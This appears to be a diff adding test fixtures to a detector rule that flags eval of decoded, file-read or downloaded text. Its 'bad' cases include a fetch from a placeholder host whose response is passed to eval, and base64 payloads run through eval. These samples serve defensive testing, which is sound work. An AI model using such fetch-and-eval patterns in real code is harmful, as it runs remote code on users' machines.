@@ -4,6 +4,22 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'one of the functions that a bundler has named',
+      code: "const __name = (target, value) => Object.defineProperty(target, 'name', { value });\nconst unpack = __name((text) => atob(text), 'unpack');\nconst plain = __name((text) => text.trim(), 'plain');\nexports.greeting = plain('hello');\neval(unpack('Y29uc29sZS5sb2coMSk='));",
+    },
+    {
+      name: 'a decoder that is given a file where a text becomes code, and memory elsewhere',
+      code: "const fs = require('fs'), path = require('path');\nfunction text(bytes, at) { let s = ''; while (bytes[at]) s += String.fromCharCode(bytes[at++]); return s }\nexports.name = (memory, at) => text(new Uint8Array(memory.buffer), at);\neval(text(fs.readFileSync(path.join(__dirname, 'x.wasm')), 0));",
+    },
+    {
+      name: 'a download that several callbacks hand on',
+      code: "fetch('https://a.example/x').then((answer) => answer.text()).then((text) => text.trim()).then((text) => eval(text));",
+    },
+    {
+      name: 'a function that replaces what it was given',
+      code: "const plain = (text) => { text = atob('Y29uc29sZS5sb2coMSk='); return text };\neval(plain('hello'));",
+    },
+    {
       name: 'code that lies in JSON',
       files: {
         'index.js': "const vm = require('vm'), texts = require('./texts.json');\nvm.runInThisContext(texts.welcome)",
@@ -164,6 +180,18 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'another one of the functions that a bundler has named',
+      code: "const __name = (target, value) => Object.defineProperty(target, 'name', { value });\nconst unpack = __name((text) => atob(text), 'unpack');\nconst plain = __name((text) => text.trim(), 'plain');\nexports.greeting = unpack('Y29uc29sZS5sb2coMSk=');\nexports.run = (text) => eval(plain(text));",
+    },
+    {
+      name: 'a decoder that is given memory where a text becomes code, and a file elsewhere',
+      code: "const fs = require('fs'), path = require('path');\nfunction text(bytes, at) { let s = ''; while (bytes[at]) s += String.fromCharCode(bytes[at++]); return s }\nexports.name = text(fs.readFileSync(path.join(__dirname, 'x.wasm')), 0);\nexports.run = (memory, at) => eval(text(new Uint8Array(memory.buffer), at));",
+    },
+    {
+      name: 'a script of the user, once somebody has answered',
+      code: "const fs = require('fs');\nfetch('https://a.example/started').then(() => fs.readFileSync(process.argv[2], 'utf8')).then((text) => eval(text));",
+    },
     {
       name: 'what a loader has compiled before, in a folder of its own making',
       files: {
